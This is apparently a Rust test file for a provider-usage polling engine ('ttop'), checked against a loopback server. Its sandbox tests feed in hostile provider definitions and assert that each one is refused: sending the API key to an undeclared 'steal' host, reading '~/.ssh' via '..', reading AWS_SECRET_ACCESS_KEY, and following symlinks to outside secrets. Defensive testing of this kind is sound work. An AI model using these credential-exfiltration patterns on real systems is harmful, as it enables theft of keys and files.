//! The provider engine against a loopback server serving recorded responses: mapping,
//! status handling, retries, timeouts, token refresh, request chains, paging, polling
//! and the run-time sandbox (hostile definitions send nothing).
#![allow(clippy::unwrap_used, clippy::expect_used)] // Tests fail loudly on purpose.

use std::collections::{BTreeMap, HashMap, VecDeque};
use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream};
use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use serde_json::{Value, json};
use ttop::def::{CompileEnv, Definition, Provider, load_str};
use ttop::engine::ctx::Ctx;
use ttop::engine::provider::{PollOptions, Poller, ProviderUsage, RunEnv, fetch_blocking, poll_all};

/// One canned answer.
#[derive(Clone)]
struct Reply {
    status: u16,
    headers: Vec<(String, String)>,
    body: String,
    delay: Duration,
}

fn reply(status: u16, body: &str) -> Reply {
    Reply {
        status,
        headers: vec![],
        body: body.to_string(),
        delay: Duration::ZERO,
    }
}

/// What the server received.
#[derive(Clone, Debug)]
struct Seen {
    method: String,
    target: String,
    headers: Vec<(String, String)>,
    body: String,
}

impl Seen {
    fn header(&self, name: &str) -> Option<&str> {
        self.headers
            .iter()
            .find(|(k, _)| k.eq_ignore_ascii_case(name))
            .map(|(_, v)| v.as_str())
    }
}

/// A loopback HTTP/1.1 server: routes by path to queues of replies (the last reply of a
/// queue repeats), and records every request.
struct Server {
    base: String,
    routes: Arc<Mutex<HashMap<String, VecDeque<Reply>>>>,
    seen: Arc<Mutex<Vec<Seen>>>,
}

impl Server {
    fn start() -> Server {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let base = format!("http://{}", listener.local_addr().unwrap());
        let routes: Arc<Mutex<HashMap<String, VecDeque<Reply>>>> = Arc::default();
        let seen: Arc<Mutex<Vec<Seen>>> = Arc::default();
        let (r, s) = (Arc::clone(&routes), Arc::clone(&seen));
        std::thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                let (r, s) = (Arc::clone(&r), Arc::clone(&s));
                std::thread::spawn(move || handle(stream, &r, &s));
            }
        });
        Server { base, routes, seen }
    }

    fn route(&self, path: &str, replies: Vec<Reply>) {
        self.routes.lock().unwrap().insert(path.to_string(), replies.into());
    }

    fn seen(&self) -> Vec<Seen> {
        self.seen.lock().unwrap().clone()
    }
}

fn handle(mut stream: TcpStream, routes: &Mutex<HashMap<String, VecDeque<Reply>>>, seen: &Mutex<Vec<Seen>>) {
    let _ = stream.set_read_timeout(Some(Duration::from_secs(5)));
    let mut buf = Vec::new();
    let mut chunk = [0u8; 4096];
    let head_end = loop {
        let Ok(n) = stream.read(&mut chunk) else { return };
        if n == 0 {
            return;
        }
        buf.extend_from_slice(&chunk[..n]);
        if let Some(i) = buf.windows(4).position(|w| w == b"\r\n\r\n") {
            break i;
        }
    };
    let head = String::from_utf8_lossy(&buf[..head_end]).to_string();
    let mut lines = head.lines();
    let first: Vec<String> = lines.next().unwrap_or("").split(' ').map(str::to_string).collect();
    let headers: Vec<(String, String)> = lines
        .filter_map(|l| {
            l.split_once(':')
                .map(|(k, v)| (k.trim().to_ascii_lowercase(), v.trim().to_string()))
        })
        .collect();
    let len: usize = headers
        .iter()
        .find(|(k, _)| k == "content-length")
        .and_then(|(_, v)| v.parse().ok())
        .unwrap_or(0);
    let mut body = buf[head_end + 4..].to_vec();
    while body.len() < len {
        let Ok(n) = stream.read(&mut chunk) else { break };
        if n == 0 {
            break;
        }
        body.extend_from_slice(&chunk[..n]);
    }
    let target = first.get(1).cloned().unwrap_or_default();
    let path = target.split('?').next().unwrap_or("").to_string();
    seen.lock().unwrap().push(Seen {
        method: first.first().cloned().unwrap_or_default(),
        target,
        headers,
        body: String::from_utf8_lossy(&body).to_string(),
    });
    let r = {
        let mut routes = routes.lock().unwrap();
        match routes.get_mut(&path) {
            Some(q) if q.len() > 1 => q.pop_front().unwrap(),
            Some(q) => q.front().cloned().unwrap(),
            None => reply(404, "{\"error\":\"no route\"}"),
        }
    };
    std::thread::sleep(r.delay);
    let mut out = format!(
        "HTTP/1.1 {} X\r\ncontent-length: {}\r\ncontent-type: application/json\r\nconnection: close\r\n",
        r.status,
        r.body.len()
    );
    for (k, v) in &r.headers {
        out.push_str(&format!("{k}: {v}\r\n"));
    }
    out.push_str("\r\n");
    out.push_str(&r.body);
    let _ = stream.write_all(out.as_bytes());
}

/// A temporary home, the env the engine sees, and a fixed clock.
struct World {
    home: tempfile::TempDir,
    env: HashMap<String, String>,
    now_ms: i64,
}

const NOW: i64 = 1_796_400_000_000; // 2026-12-04T16:00:00Z

impl World {
    fn new(server: &Server) -> World {
        let mut env = HashMap::new();
        env.insert(
            "TTOP_HTTP_REDIRECT".into(),
            format!(
                "api.example.com={b},auth.example.com={b},other.example.net={b}",
                b = server.base
            ),
        );
        World {
            home: tempfile::tempdir().unwrap(),
            env,
            now_ms: NOW,
        }
    }

    fn home(&self) -> PathBuf {
        std::fs::canonicalize(self.home.path()).unwrap()
    }

    fn write(&self, rel: &str, text: &str) -> PathBuf {
        let p = self.home().join(rel);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(&p, text).unwrap();
        p
    }

    fn ctx(&self) -> Ctx {
        Ctx::fake(self.home(), self.env.clone()).with_now_ms(self.now_ms)
    }

    fn compile(&self, yaml: &str) -> Result<Arc<Provider>, String> {
        let env = CompileEnv { home: self.home() };
        let loaded = load_str(yaml, Path::new("test-provider.yaml"), &env);
        match loaded.def {
            Some(Definition::Provider(p)) => Ok(p),
            _ => Err(loaded
                .diags
                .iter()
                .map(|d| d.render(Some(yaml)))
                .collect::<Vec<_>>()
                .join("\n")),
        }
    }

    fn provider(&self, yaml: &str) -> Arc<Provider> {
        self.compile(yaml)
            .unwrap_or_else(|e| panic!("definition does not compile:\n{e}"))
    }

    fn run_env(&self) -> RunEnv {
        let mut env = RunEnv::new(self.ctx(), BTreeMap::new());
        env.retry_delays = vec![Duration::from_millis(10), Duration::from_millis(20)];
        env
    }

    fn fetch(&self, p: &Provider) -> ProviderUsage {
        fetch_blocking(p, &self.run_env())
    }
}

/// A definition in the shape most tests use: an env key or an OAuth file, one request.
fn def(extra_requests: &str, usage: &str) -> String {
    format!(
        r#"
apiVersion: tokentop/v1
kind: Provider
id: test-provider
meta: {{ name: Test Provider }}
permissions:
  network: [api.example.com, auth.example.com]
  env: [TEST_API_KEY]
  files: ["~/.test-provider"]
credentials:
  - file: ~/.test-provider/auth.json
    when: doc.type == "oauth"
    map:
      access_token: $.access
      refresh_token: $.refresh
      expires_at: {{ path: $.expires, type: epoch_ms }}
      plan: $.plan
  - env: TEST_API_KEY
    as: api_key
requests:
{extra_requests}
usage:
{usage}
"#
    )
}

const USAGE_REQUEST: &str = r#"
  - id: usage
    url: https://api.example.com/v1/usage
    timeout_ms: 500
    headers:
      Authorization: "Bearer {{ cred.api_key or cred.access_token }}"
    on_status:
      403: { error: "this key may not read usage" }
"#;

const WINDOWS_USAGE: &str = r#"
  plan: { expr: "body.plan_type", map: { pro: Pro, max: Max } }
  limits:
    - label: 5-hour window
      window_minutes: { const: 300 }
      used_percent: { path: $.usage.five_hour.utilization, clamp: [0, 100] }
      resets_at: { path: $.usage.five_hour.resets_at, type: rfc3339 }
    - label: 7-day window
      window_minutes: { const: 10080 }
      used_percent: { path: $.usage.seven_day.utilization }
      resets_at: { path: $.usage.seven_day.resets_at, type: epoch_s }
"#;

const WINDOWS_BODY: &str = r#"{"plan_type":"pro","five_hour":{"utilization":37.5,"resets_at":"2026-12-04T18:00:00Z"},"seven_day":{"utilization":81,"resets_at":1796860800}}"#;

#[test]
fn maps_windows_from_an_env_key_and_sorts_limits() {
    let server = Server::start();
    server.route("/v1/usage", vec![reply(200, WINDOWS_BODY)]);
    let mut w = World::new(&server);
    w.env.insert("TEST_API_KEY".into(), "sk-test-key-1234".into());
    let p = w.provider(&def(USAGE_REQUEST, WINDOWS_USAGE));
    let u = w.fetch(&p);
    assert_eq!(u.error, None);
    assert!(u.configured);
    assert_eq!(u.plan.as_deref(), Some("Pro"));
    let j = u.to_json();
    assert_eq!(
        j["limits"],
        json!([
            {"label": "7-day window", "used_percent": 81, "resets_at": "2026-12-10T00:00:00Z", "window_minutes": 10080},
            {"label": "5-hour window", "used_percent": 37.5, "resets_at": "2026-12-04T18:00:00Z", "window_minutes": 300},
        ])
    );
    assert_eq!(j["limit_reached"], json!(false));
    let seen = server.seen();
    assert_eq!(seen.len(), 1);
    assert_eq!(seen[0].method, "GET");
    assert_eq!(seen[0].header("authorization"), Some("Bearer sk-test-key-1234"));
}

#[test]
fn unconfigured_without_a_credential_and_nothing_is_sent() {
    let server = Server::start();
    let w = World::new(&server);
    let p = w.provider(&def(USAGE_REQUEST, WINDOWS_USAGE));
    let u = w.fetch(&p);
    assert!(!u.configured);
    assert_eq!(u.error, None);
    assert!(server.seen().is_empty());
}

#[test]
fn status_codes_give_clear_redacted_errors() {
    let server = Server::start();
    let mut w = World::new(&server);
    w.env.insert("TEST_API_KEY".into(), "sk-secret-value-99".into());
    let p = w.provider(&def(USAGE_REQUEST, WINDOWS_USAGE));
    // 401 without an on_status entry: stops at once, and the echoed key is redacted.
    server.route(
        "/v1/usage",
        vec![reply(401, r#"{"error":"bad key sk-secret-value-99"}"#)],
    );
    let u = w.fetch(&p);
    let e = u.error.clone().unwrap();
    assert!(
        e.starts_with("request 'usage': HTTP 401 (credential rejected) from 'https://api.example.com/v1/usage'"),
        "{e}"
    );
    assert!(e.contains("[redacted]") && !e.contains("sk-secret-value-99"), "{e}");
    assert!(!u.to_json().to_string().contains("sk-secret-value-99"));
    // 403 with an on_status entry.
    server.route("/v1/usage", vec![reply(403, "{}")]);
    assert_eq!(w.fetch(&p).error.as_deref(), Some("this key may not read usage"));
    // 404.
    server.route("/v1/usage", vec![reply(404, "not here")]);
    let e = w.fetch(&p).error.unwrap();
    assert!(e.contains("HTTP 404 (not found)") && e.contains("'not here'"), "{e}");
}

#[test]
fn a_429_marks_the_provider_rate_limited_until_retry_after() {
    let server = Server::start();
    let mut w = World::new(&server);
    w.env.insert("TEST_API_KEY".into(), "sk-test-key-1234".into());
    let p = w.provider(&def(USAGE_REQUEST, WINDOWS_USAGE));
    let mut r = reply(429, "{}");
    r.headers.push(("retry-after".into(), "120".into()));
    server.route("/v1/usage", vec![r]);
    let u = w.fetch(&p);
    assert!(u.rate_limited);
    assert_eq!(u.retry_at, Some(NOW + 120_000));
    assert_eq!(
        u.error.as_deref(),
        Some("rate limited by 'https://api.example.com/v1/usage' until 2026-12-04T16:02:00Z")
    );
    // Without the header: five minutes.
    server.route("/v1/usage", vec![reply(429, "{}")]);
    assert_eq!(w.fetch(&p).retry_at, Some(NOW + 300_000));
    assert_eq!(server.seen().len(), 2, "a 429 is not retried");
}

#[test]
fn server_errors_are_retried_then_reported() {
    let server = Server::start();
    let mut w = World::new(&server);
    w.env.insert("TEST_API_KEY".into(), "sk-test-key-1234".into());
    let p = w.provider(&def(USAGE_REQUEST, WINDOWS_USAGE));
    server.route("/v1/usage", vec![reply(503, "down"), reply(200, WINDOWS_BODY)]);
    let u = w.fetch(&p);
    assert_eq!(u.error, None, "one 503 then success");
    assert_eq!(server.seen().len(), 2);
    server.route("/v1/usage", vec![reply(500, "boom")]);
    let u = w.fetch(&p);
    assert_eq!(server.seen().len(), 5, "two retries after the first 500");
    assert!(u.error.unwrap().contains("HTTP 500 (server error)"));
}

#[test]
fn garbage_bodies_and_slow_servers_are_errors() {
    let server = Server::start();
    let mut w = World::new(&server);
    w.env.insert("TEST_API_KEY".into(), "sk-test-key-1234".into());
    let p = w.provider(&def(USAGE_REQUEST, WINDOWS_USAGE));
    server.route("/v1/usage", vec![reply(200, "<html>oops</html>")]);
    let e = w.fetch(&p).error.unwrap();
    assert_eq!(
        e,
        "request 'usage': the response from 'https://api.example.com/v1/usage' is not JSON: '<html>oops</html>'"
    );
    // JSON of the wrong shape: a type error names the value.
    server.route("/v1/usage", vec![reply(200, r#"{"five_hour":{"utilization":"lots"}}"#)]);
    let e = w.fetch(&p).error.unwrap();
    assert!(e.starts_with("usage limits[0].used_percent: clamp:"), "{e}");
    // Slower than timeout_ms (500): a timeout, not retried.
    let mut slow = reply(200, WINDOWS_BODY);
    slow.delay = Duration::from_millis(1500);
    server.route("/v1/usage", vec![slow]);
    let before = server.seen().len();
    let e = w.fetch(&p).error.unwrap();
    assert_eq!(e, "request 'usage' to 'https://api.example.com/v1/usage': timed out");
    assert_eq!(server.seen().len(), before + 1);
}

const REFRESH: &str = r#"
refresh:
  before: 5m
  request:
    method: POST
    url: https://auth.example.com/oauth/token
    form:
      grant_type: refresh_token
      refresh_token: "{{ cred.refresh_token }}"
      client_id: test-client
  map:
    access_token: $.access_token
    expires_at: { expr: "now_ms + body.expires_in * 1000" }
"#;

#[test]
fn expiring_tokens_are_refreshed_in_memory_only() {
    let server = Server::start();
    let w = World::new(&server);
    let auth = format!(
        r#"{{"type":"oauth","access":"old-access-token","refresh":"refresh-token-xyz","expires":{},"plan":"max"}}"#,
        NOW + 60_000
    );
    let file = w.write(".test-provider/auth.json", &auth);
    let yaml = def(USAGE_REQUEST, WINDOWS_USAGE).replace("requests:\n", &format!("{REFRESH}requests:\n"));
    let p = w.provider(&yaml);
    server.route(
        "/oauth/token",
        vec![reply(200, r#"{"access_token":"new-access-token","expires_in":3600}"#)],
    );
    server.route("/v1/usage", vec![reply(200, WINDOWS_BODY)]);
    let env = w.run_env();
    let u = fetch_blocking(&p, &env);
    assert_eq!(u.error, None);
    let seen = server.seen();
    assert_eq!(seen[0].target, "/oauth/token");
    assert_eq!(seen[0].method, "POST");
    assert_eq!(
        seen[0].body,
        "client_id=test-client&grant_type=refresh_token&refresh_token=refresh-token-xyz"
    );
    assert_eq!(
        seen[0].header("content-type"),
        Some("application/x-www-form-urlencoded")
    );
    assert_eq!(seen[1].header("authorization"), Some("Bearer new-access-token"));
    // The refreshed token is kept in memory: the next poll does not refresh again.
    let _ = fetch_blocking(&p, &env);
    let seen = server.seen();
    assert_eq!(seen.len(), 3);
    assert_eq!(seen[2].header("authorization"), Some("Bearer new-access-token"));
    // And the credential file is never written.
    assert_eq!(std::fs::read_to_string(file).unwrap(), auth);
    // A refused refresh is an error without the tokens.
    server.route("/oauth/token", vec![reply(400, r#"{"error":"invalid_grant"}"#)]);
    let u = w.fetch(&p);
    let e = u.error.unwrap();
    assert!(
        e.starts_with("token refresh failed: request 'refresh': HTTP 400"),
        "{e}"
    );
    assert!(!e.contains("refresh-token-xyz"));
}

#[test]
fn expired_credentials_without_refresh_are_skipped_with_a_reason() {
    let server = Server::start();
    let w = World::new(&server);
    w.write(
        ".test-provider/auth.json",
        &format!(r#"{{"type":"oauth","access":"a-token-1234","expires":{}}}"#, NOW - 1000),
    );
    let p = w.provider(&def(USAGE_REQUEST, WINDOWS_USAGE));
    let u = w.fetch(&p);
    assert!(u.configured);
    assert_eq!(
        u.error.as_deref(),
        Some("the credential from file '~/.test-provider/auth.json' expired at 2026-12-04T15:59:59Z; sign in again")
    );
    assert!(server.seen().is_empty());
}

#[test]
fn chains_fallbacks_success_and_maps_over_maps() {
    let server = Server::start();
    let mut w = World::new(&server);
    w.env.insert("TEST_API_KEY".into(), "sk-test-key-1234".into());
    let requests = r#"
  - id: project
    method: POST
    url: https://api.example.com/v1/project
    json: { meta: { kind: "ide" } }
  - id: models
    method: POST
    url: https://api.example.com/primary/models
    fallback_urls: [https://api.example.com/secondary/models]
    json: { project: "{{ responses.project.id }}", at: "{{ now_ms // 1000 }}" }
    success: body.models is mapping
"#;
    let usage = r#"
  plan: { const: Test }
  limits:
    - each: $.models.models
      where: item.quota is defined
      label: "{{ item.name or key }}"
      used_percent: { expr: "(1 - item.quota) * 100" }
      sort: { by: used_percent, desc: true, then: { by: label } }
      take: 2
"#;
    let p = w.provider(&def(requests, usage));
    server.route("/v1/project", vec![reply(200, r#"{"id":"proj-7"}"#)]);
    server.route("/primary/models", vec![reply(200, r#"{"unexpected":true}"#)]);
    server.route(
        "/secondary/models",
        vec![reply(
            200,
            r#"{"models":{"m-a":{"name":"Model A","quota":0.5},"m-b":{"quota":0.5},"m-c":{"quota":0.9},"internal":{}}}"#,
        )],
    );
    let u = w.fetch(&p);
    assert_eq!(u.error, None);
    let labels: Vec<(&str, f64)> = u.limits.iter().map(|l| (l.label.as_str(), l.used_percent)).collect();
    assert_eq!(labels, vec![("m-b", 50.0), ("Model A", 50.0)]);
    let seen = server.seen();
    assert_eq!(seen.len(), 3);
    let body: Value = serde_json::from_str(&seen[1].body).unwrap();
    assert_eq!(body, json!({"project": "proj-7", "at": "1796400000"}));
    assert_eq!(seen[2].target, "/secondary/models");
}

#[test]
fn pages_are_followed_and_sums_reduce() {
    let server = Server::start();
    let mut w = World::new(&server);
    w.env.insert("TEST_API_KEY".into(), "sk-test-key-1234".into());
    let requests = r#"
  - id: costs
    url: https://api.example.com/v1/costs
    query: { start: "{{ (now_ms // 1000) - 86400 }}" }
    paginate: { next: "body.next_page if body.has_more", param: page, items: $.data }
  - id: extra
    url: https://api.example.com/v1/extra
    optional: true
"#;
    let usage = r#"
  tokens:
    input: { path: "$.costs.data[*].results[*].input", reduce: sum }
  cost:
    total: { path: "$.costs.data[*].results[*].amount", reduce: sum }
    currency: { const: USD }
"#;
    let p = w.provider(&def(requests, usage));
    server.route(
        "/v1/costs",
        vec![
            reply(
                200,
                r#"{"data":[{"results":[{"input":10,"amount":0.5}]}],"has_more":true,"next_page":"p2"}"#,
            ),
            reply(
                200,
                r#"{"data":[{"results":[{"input":5,"amount":0.25},{"input":1,"amount":0.25}]}],"has_more":false}"#,
            ),
        ],
    );
    server.route("/v1/extra", vec![reply(500, "{}")]);
    let u = w.fetch(&p);
    assert_eq!(u.error, None, "an optional request's failure is not an error");
    assert_eq!(u.tokens.as_ref().unwrap().input, Some(16.0));
    assert_eq!(u.cost.as_ref().unwrap().total, 1.0);
    let seen = server.seen();
    assert_eq!(seen[0].target, "/v1/costs?start=1796313600");
    assert_eq!(seen[1].target, "/v1/costs?start=1796313600&page=p2");
}

#[test]
fn credential_files_pick_elements_by_another_field() {
    let server = Server::start();
    let w = World::new(&server);
    w.write(
        ".test-provider/accounts.json",
        r#"{"activeIndex":1,"accounts":[{"token":"tok-first-0000"},{"token":"tok-second-1111"}]}"#,
    );
    let yaml = def(USAGE_REQUEST, WINDOWS_USAGE).replace(
        "credentials:\n",
        "credentials:\n  - file: ~/.test-provider/accounts.json\n    map: { api_key: { expr: \"doc.accounts[doc.activeIndex].token\" } }\n",
    );
    let p = w.provider(&yaml);
    server.route("/v1/usage", vec![reply(200, WINDOWS_BODY)]);
    let u = w.fetch(&p);
    assert_eq!(u.error, None);
    assert_eq!(
        u.credential_source.as_deref(),
        Some("file '~/.test-provider/accounts.json'")
    );
    assert_eq!(server.seen()[0].header("authorization"), Some("Bearer tok-second-1111"));
}

/// A definition whose credential files are built from env vars.
const TEMPLATED_FILES: &str = r#"
apiVersion: tokentop/v1
kind: Provider
id: test-provider
meta: { name: Test Provider }
permissions:
  network: [api.example.com]
  env: [TP_HOME, TP_DIRS, TEST_API_KEY]
  files: ["{{ env.TP_HOME }}/auth.json", "{{ env.TP_DIRS }}"]
credentials:
  - file: "{{ env.TP_HOME }}/auth.json"
    map: { api_key: $.key }
  - file: "{{ env.TP_DIRS }}/creds.json"
    map: { api_key: $.key }
  - env: TEST_API_KEY
    as: api_key
requests:
  - id: usage
    url: https://api.example.com/v1/usage
    headers: { Authorization: "Bearer {{ cred.api_key }}" }
usage:
  plan: { const: Pro }
"#;

#[test]
fn templated_credential_files_follow_env_vars() {
    let server = Server::start();
    server.route("/v1/usage", vec![reply(200, "{}")]);
    let mut w = World::new(&server);
    let p = w.provider(TEMPLATED_FILES);
    let last_auth = |s: &Server| {
        s.seen()
            .last()
            .and_then(|r| r.header("authorization").map(str::to_string))
    };

    // Every variable unset: the templated sources are skipped without a complaint.
    w.env.insert("TEST_API_KEY".into(), "sk-env-key-0000".into());
    let u = w.fetch(&p);
    assert_eq!(u.error, None);
    assert_eq!(u.credential_source.as_deref(), Some("env 'TEST_API_KEY'"));
    assert_eq!(last_auth(&server).as_deref(), Some("Bearer sk-env-key-0000"));

    // A set variable (here with '~') points at the file, which wins over later sources.
    let file = w.write("custom-home/auth.json", r#"{"key":"tok-home-1111"}"#);
    w.env.insert("TP_HOME".into(), "~/custom-home".into());
    let u = w.fetch(&p);
    assert_eq!(u.error, None);
    assert_eq!(
        u.credential_source,
        Some(format!("file '{}'", file.display())),
        "the source names the rendered path"
    );
    assert_eq!(last_auth(&server).as_deref(), Some("Bearer tok-home-1111"));

    // A comma-separated value tries each element in order; missing files are skipped.
    w.env.remove("TP_HOME");
    let first = w.home().join("dirs/first");
    std::fs::create_dir_all(&first).unwrap();
    let second = w.write("dirs/second/creds.json", r#"{"key":"tok-second-2222"}"#);
    let second_dir = second.parent().unwrap().to_path_buf();
    w.env.insert(
        "TP_DIRS".into(),
        format!("{}, {}", first.display(), second_dir.display()),
    );
    let u = w.fetch(&p);
    assert_eq!(u.error, None);
    assert_eq!(u.credential_source, Some(format!("file '{}'", second.display())));
    assert_eq!(last_auth(&server).as_deref(), Some("Bearer tok-second-2222"));
    w.write("dirs/first/creds.json", r#"{"key":"tok-first-1111"}"#);
    let u = w.fetch(&p);
    assert_eq!(last_auth(&server).as_deref(), Some("Bearer tok-first-1111"));
    assert_eq!(
        u.credential_source,
        Some(format!("file '{}'", first.join("creds.json").display()))
    );
}

#[test]
fn a_templated_credential_file_outside_permissions_is_refused_and_nothing_is_sent() {
    let server = Server::start();
    server.route("/v1/usage", vec![reply(200, "{}")]);
    let mut w = World::new(&server);
    // The file template compiles (it reads only a declared variable), but the rendered
    // path is not under permissions.files.
    let yaml = TEMPLATED_FILES.replace(
        r#"files: ["{{ env.TP_HOME }}/auth.json", "{{ env.TP_DIRS }}"]"#,
        r#"files: ["~/.allowed"]"#,
    );
    let p = w.provider(&yaml);
    let stolen = w.write("elsewhere/auth.json", r#"{"key":"stolen-token-1"}"#);
    w.env
        .insert("TP_HOME".into(), stolen.parent().unwrap().display().to_string());
    let u = w.fetch(&p);
    let e = u.error.clone().unwrap_or_default();
    assert!(e.starts_with(&format!("file '{}' refused:", stolen.display())), "{e}");
    assert!(e.contains("is not under permissions.files"), "{e}");
    assert!(!e.contains("stolen-token-1"), "{e}");
    assert!(!u.configured);
    assert!(server.seen().is_empty(), "the server received {:?}", server.seen());
}

#[test]
fn templated_credential_files_are_checked_at_load() {
    let server = Server::start();
    let w = World::new(&server);
    let with_file = |file: &str| {
        TEMPLATED_FILES.replace(
            r#""{{ env.TP_HOME }}/auth.json"
    map"#,
            &format!("{file}\n    map"),
        )
    };
    let p = w.compile(&with_file(r#""{{ env.TP_HOME }}/auth.json""#)).unwrap();
    assert_eq!(
        p.credentials[0].describe(),
        "file '$TP_HOME/auth.json'",
        "shown as in a shell"
    );
    let e = w.compile(&with_file(r#""{{ env.HOME }}/.ssh/id.json""#)).unwrap_err();
    assert!(e.contains("environment variable 'HOME' is not permitted"), "{e}");
    let e = w
        .compile(&with_file(r#""{{ env.TP_HOME }}/../.ssh/id.json""#))
        .unwrap_err();
    assert!(e.contains("climbs with '..'"), "{e}");
    let e = w.compile(&with_file(r#""{{ cred.api_key }}/auth.json""#)).unwrap_err();
    assert!(e.contains("may only read environment variables"), "{e}");
    let e = w.compile(&with_file(r#""{{ env.TP_HOME }/auth.json""#)).unwrap_err();
    assert!(e.contains("template"), "{e}");
    // A literal file keeps the load-time permission check.
    let e = w.compile(&with_file("~/.ssh/id.json")).unwrap_err();
    assert!(e.contains("is not under permissions.files"), "{e}");
    assert!(server.seen().is_empty());
}

// ---------------------------------------------------------------------------------------
// Hostile definitions
// ---------------------------------------------------------------------------------------

#[test]
fn hostile_definitions_are_refused_at_load() {
    let server = Server::start();
    let w = World::new(&server);
    let undeclared_host = def(
        "  - id: usage\n    url: https://other.example.net/steal\n    headers: { Authorization: \"{{ cred.api_key }}\" }\n",
        "  plan: { const: x }\n",
    );
    let e = w.compile(&undeclared_host).unwrap_err();
    assert!(
        e.contains("host 'other.example.net' is not in permissions.network"),
        "{e}"
    );
    let templated_host = def(
        "  - id: usage\n    url: \"https://{{ cred.api_key }}.example.net/x\"\n",
        "  plan: { const: x }\n",
    );
    let e = w.compile(&templated_host).unwrap_err();
    assert!(
        e.contains("does not start with a literal 'https://'") || e.contains("builds its host from a template"),
        "{e}"
    );
    let dotdot = def(USAGE_REQUEST, "  plan: { const: x }\n").replace(
        "credentials:\n",
        "credentials:\n  - file: ~/.test-provider/../.ssh/id_rsa.json\n    map: { api_key: $.k }\n",
    );
    let e = w.compile(&dotdot).unwrap_err();
    assert!(e.contains("is not under permissions.files"), "{e}");
    let env = def(USAGE_REQUEST, "  plan: { const: x }\n").replace(
        "credentials:\n",
        "credentials:\n  - env: AWS_SECRET_ACCESS_KEY\n    as: api_key\n",
    );
    let e = w.compile(&env).unwrap_err();
    assert!(
        e.contains("environment variable 'AWS_SECRET_ACCESS_KEY' is not permitted"),
        "{e}"
    );
    let env_in_template = def(
        "  - id: usage\n    url: https://api.example.com/x\n    headers: { X: \"{{ env.HOME }}\" }\n",
        "  plan: { const: x }\n",
    );
    let e = w.compile(&env_in_template).unwrap_err();
    assert!(e.contains("environment variable 'HOME' is not permitted"), "{e}");
    assert!(server.seen().is_empty());
}

#[test]
fn the_sandbox_holds_at_run_time_and_nothing_is_sent() {
    let server = Server::start();
    server.route("/v1/usage", vec![reply(200, WINDOWS_BODY)]);
    let mut w = World::new(&server);
    w.env.insert("TEST_API_KEY".into(), "sk-test-key-1234".into());
    w.env.insert("SECRET_ELSEWHERE".into(), "do-not-read".into());
    // A compiled definition whose permissions no longer list its host: the HTTP door
    // refuses, the credential is not sent.
    let p = w.provider(&def(USAGE_REQUEST, WINDOWS_USAGE));
    let mut tampered = Arc::try_unwrap(p).unwrap();
    tampered.perms.network = vec!["elsewhere.example.org".into()];
    let u = w.fetch(&tampered);
    assert_eq!(
        u.error.as_deref(),
        Some("request 'usage' refused: host 'api.example.com' is not in permissions.network")
    );
    // A URL whose path template tries to smuggle in another host.
    let smuggle = def(
        "  - id: usage\n    url: \"https://api.example.com{{ cred.api_key }}\"\n",
        "  plan: { const: x }\n",
    );
    assert!(w.compile(&smuggle).is_err());
    let smuggle = def(
        "  - id: usage\n    url: \"https://api.example.com/{{ body.next }}\"\n    query: { a: b }\n",
        "  plan: { const: x }\n",
    );
    assert!(w.compile(&smuggle).is_ok(), "a templated path is fine");
    // A symlink inside the permitted directory that points outside: refused.
    let outside = w.write("elsewhere/secret.json", r#"{"type":"oauth","access":"stolen-token-1"}"#);
    std::fs::create_dir_all(w.home().join(".test-provider")).unwrap();
    #[cfg(unix)]
    std::os::unix::fs::symlink(&outside, w.home().join(".test-provider/auth.json")).unwrap();
    let mut w2 = World::new(&server);
    w2.home = w.home;
    let p = w2.provider(&def(USAGE_REQUEST, WINDOWS_USAGE));
    let u = w2.fetch(&p);
    #[cfg(unix)]
    {
        let e = u.error.clone().unwrap();
        assert!(e.starts_with("file '~/.test-provider/auth.json' refused:"), "{e}");
        assert!(e.contains("is not under permissions.files"), "{e}");
        assert!(!u.configured);
    }
    // An env var read by a definition that did not declare it: refused by the context.
    let ctx = w2.ctx();
    let err = ctx.env_for(&p.perms, "SECRET_ELSEWHERE").unwrap_err();
    assert_eq!(err, "environment variable 'SECRET_ELSEWHERE' is not in permissions.env");
    assert!(server.seen().is_empty(), "the server received {:?}", server.seen());
}

// ---------------------------------------------------------------------------------------
// Polling
// ---------------------------------------------------------------------------------------

#[test]
fn one_slow_provider_never_delays_another() {
    let server = Server::start();
    let mut w = World::new(&server);
    w.env.insert("TEST_API_KEY".into(), "sk-test-key-1234".into());
    let fast = w.provider(&def(USAGE_REQUEST, WINDOWS_USAGE));
    let slow_yaml = def(USAGE_REQUEST, WINDOWS_USAGE)
        .replace("id: test-provider", "id: test-slow")
        .replace("/v1/usage", "/v1/slow")
        .replace("timeout_ms: 500", "timeout_ms: 5000");
    let slow = w.provider(&slow_yaml);
    server.route("/v1/usage", vec![reply(200, WINDOWS_BODY)]);
    let mut r = reply(200, WINDOWS_BODY);
    r.delay = Duration::from_millis(3000);
    server.route("/v1/slow", vec![r]);
    let started = std::time::Instant::now();
    let out = poll_all(
        &[Arc::clone(&slow), Arc::clone(&fast)],
        &w.run_env(),
        Duration::from_millis(400),
    );
    assert!(started.elapsed() < Duration::from_millis(2500));
    assert_eq!(out[0].id, "test-slow");
    assert_eq!(out[0].error.as_deref(), Some("no answer within 0.4 s"));
    assert_eq!(out[1].error, None);
}

#[test]
fn the_poller_sends_results_and_stores_snapshots() {
    let server = Server::start();
    server.route("/v1/usage", vec![reply(200, WINDOWS_BODY)]);
    let mut w = World::new(&server);
    w.env.insert("TEST_API_KEY".into(), "sk-test-key-1234".into());
    let p = w.provider(&def(USAGE_REQUEST, WINDOWS_USAGE));
    let db = w.home().join("ttop.db");
    let (tx, rx) = std::sync::mpsc::channel();
    let opts = PollOptions {
        interval: Duration::from_millis(50),
        db: Some(db.clone()),
        ..PollOptions::default()
    };
    let poller = Poller::start(vec![p], w.run_env(), opts, tx).unwrap();
    let a = rx.recv_timeout(Duration::from_secs(5)).unwrap();
    let b = rx.recv_timeout(Duration::from_secs(5)).unwrap();
    poller.stop();
    assert_eq!((a.error, b.error), (None, None));
    let store = ttop::store::Store::open(&db).unwrap();
    let last = store.last_provider_poll("test-provider").unwrap().unwrap();
    assert!(last.ok);
    assert_eq!(last.max_used_percent, Some(81.0));
    assert!(!last.data.contains("sk-test-key-1234"));
    // The clock is fixed, so both polls share one timestamp and one row.
